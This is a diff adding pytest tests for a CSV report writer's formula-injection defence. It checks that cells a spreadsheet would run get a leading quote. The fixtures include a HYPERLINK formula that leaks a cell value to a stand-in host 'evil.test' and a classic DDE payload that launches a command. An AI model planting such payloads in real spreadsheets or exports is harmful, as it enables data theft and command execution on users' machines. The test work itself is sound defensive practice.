@@ -15,6 +15,7 @@ from actors.report import (
     OUTPUT_COLUMN,
     REPORT_HEADER,
     ImageOutcome,
+    neutralise_formula,
     write_output_csv,
     write_report,
 )
@@ -284,6 +285,136 @@ def test_a_valid_url_without_an_outcome_is_reported_as_an_internal_error(tmp_pat
     manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
     [line] = report_of(manifest, {}, tmp_path)
     assert (line["status"], line["error"]) == ("failed", NO_OUTCOME_ERROR)
+
+
+# --- formulas (CSV injection) ----------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")'
+DDE = "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        HYPERLINK,
+        DDE,
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\0=1+1",
+        "-",
+        "+",
+        "-5-",
+        "-5 ",
+        "-1e",
+        "-0x10",
+        "=5",
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
+    assert neutralise_formula(cell) == "'" + cell
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "-5",
+        "+3.2",
+        "3.14",
+        "-0.5",
+        "-.5",
+        "+7.",
+        "-1e3",
+        "+2.5E-4",
+        "https://example.com/a.jpg?x=-1",
+        "Shoe - red, size 9",
+        "'=already quoted",
+        " =1+1",
+        "",
+    ],
+)
+def test_plain_numbers_urls_and_text_stay_verbatim(cell: str) -> None:
+    assert neutralise_formula(cell) == cell
+
+
+def test_a_number_in_other_digits_is_not_taken_for_a_plain_number() -> None:
+    # Given a minus sign before Arabic-Indic digits, which `str.isdigit` would accept
+    assert neutralise_formula("-\u0665") == "'-\u0665"
+
+
+# A comma file whose header, product names, URL cells and another column carry formulas.
+HOSTILE = (
+    "S. No,Product Name,Input URLs,=Note\n"
+    f'1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",https://x.test/1.jpg,-2+3\n'
+    f'2,"{DDE}",=cmd|calc!A0,\t=1+1\n'
+    "-5,@SUM(A1),https://x.test/1.jpg,3.14\n"
+    "+3.2,Shoe - red,https://x.test/1.jpg,-5\n"
+    "4,=skipme,,text\n"
+)
+
+
+def test_formulas_in_the_output_csv_are_neutralised_header_included(tmp_path: Path) -> None:
+    # Given formulas in a header cell, product names, a URL cell (an invalid URL) and a note
+    manifest = manifest_of(HOSTILE)
+    # When the output CSV is written
+    write_output_csv(manifest, {"https://x.test/1.jpg": ok("1.jpg")}, tmp_path / "out.csv")
+    # Then each formula starts with a quote, and numbers, URLs and text are as they came
+    assert read_csv(tmp_path / "out.csv") == [
+        ["S. No", "Product Name", "Input URLs", "'=Note", OUTPUT_COLUMN],
+        ["1", "'" + HYPERLINK, "https://x.test/1.jpg", "'-2+3", "https://out.test/1.jpg"],
+        ["2", "'" + DDE, "'=cmd|calc!A0", "'\t=1+1", ""],
+        ["-5", "'@SUM(A1)", "https://x.test/1.jpg", "3.14", "https://out.test/1.jpg"],
+        ["+3.2", "Shoe - red", "https://x.test/1.jpg", "-5", "https://out.test/1.jpg"],
+        ["4", "'=skipme", "", "text", ""],
+    ]
+
+
+def test_formulas_in_the_report_are_neutralised(tmp_path: Path) -> None:
+    # Given the same file: the DDE row's URL cell is no URL, so it is an invalid_url slot
+    manifest = manifest_of(HOSTILE)
+    # When the report is written
+    lines = report_of(manifest, {"https://x.test/1.jpg": ok("1.jpg")}, tmp_path)
+    # Then product names and input URLs that would run are quoted; the rest is verbatim
+    shown = [(line["product_name"], line["input_url"], line["status"]) for line in lines]
+    assert shown == [
+        ("'" + HYPERLINK, "https://x.test/1.jpg", "ok"),
+        ("'" + DDE, "'=cmd|calc!A0", "failed"),
+        ("'@SUM(A1)", "https://x.test/1.jpg", "ok"),
+        ("Shoe - red", "https://x.test/1.jpg", "ok"),
+        ("'=skipme", "", "skipped"),
+    ]
+    assert lines[1]["error"] == INVALID_URL_ERROR
+    assert [line["saved_percent"] for line in lines[:4]] == ["75.0", "", "75.0", "75.0"]
+
+
+def test_an_invalid_url_cell_split_into_pieces_is_neutralised_piece_by_piece(
+    tmp_path: Path,
+) -> None:
+    # Given the classic DDE payload as a URL cell: it splits at its spaces into three slots
+    manifest = manifest_of(f'Product,URL\nA,"{DDE}"\n')
+    # When the report is written
+    lines = report_of(manifest, {}, tmp_path)
+    # Then every piece that starts like a formula is quoted, the others are as they came
+    assert [line["input_url"] for line in lines] == ["'+cmd|'", "/C", "calc'!A0"]
+    assert {line["error"] for line in lines} == {INVALID_URL_ERROR}
+
+
+def test_a_failure_message_quoting_a_hostile_url_still_starts_with_its_reason(
+    tmp_path: Path,
+) -> None:
+    # Given a failure whose message names the URL, and by mistake an error that starts with "="
+    manifest = manifest_of("Product,URL\nA,https://x.test/1\nB,https://x.test/2\n")
+    outcomes = {
+        "https://x.test/1": failed("not_found: the origin answered 404 for =1+1"),
+        "https://x.test/2": failed("=1+1"),
+    }
+    # When reported, Then the first stays readable and the second is neutralised too
+    lines = report_of(manifest, outcomes, tmp_path)
+    assert [line["error"] for line in lines] == [
+        "not_found: the origin answered 404 for =1+1",
+        "'=1+1",
+    ]
 
 
 # --- atomic writes ---------------------------------------------------------------------------
